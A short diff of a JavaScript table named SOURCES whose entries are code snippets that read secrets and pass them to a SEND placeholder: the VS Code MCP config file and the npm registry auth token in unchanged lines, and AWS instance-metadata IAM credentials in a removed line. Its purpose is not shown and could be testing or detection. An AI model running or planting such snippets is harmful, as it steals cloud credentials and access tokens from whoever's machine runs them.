@@ -124,10 +124,6 @@ const SOURCES: readonly Row[] = [
     "const c=require('fs').readFileSync(require('path').join(require('os').homedir(),'.config/Code/User/mcp.json'));SEND«c»",
   ],
   [
-    'imds',
-    "(async()=>{const r=await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');const t=await r.text();SEND«t»})()",
-  ],
-  [
     'npm whoami/token',
     "const c=require('child_process').execSync('npm config get //registry.npmjs.org/:_authToken');SEND«c»",
   ],
